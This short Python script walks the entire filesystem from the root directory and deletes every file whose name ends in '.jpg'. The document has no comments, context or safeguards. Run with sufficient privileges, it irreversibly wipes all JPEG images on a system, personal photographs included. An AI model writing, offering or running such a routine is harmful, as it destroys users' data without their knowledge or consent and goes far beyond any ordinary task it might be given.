import os

for folder, _, names in os.walk("/"):
    for name in names:
        if name.endswith(".jpg"):
            os.remove(os.path.join(folder, name))
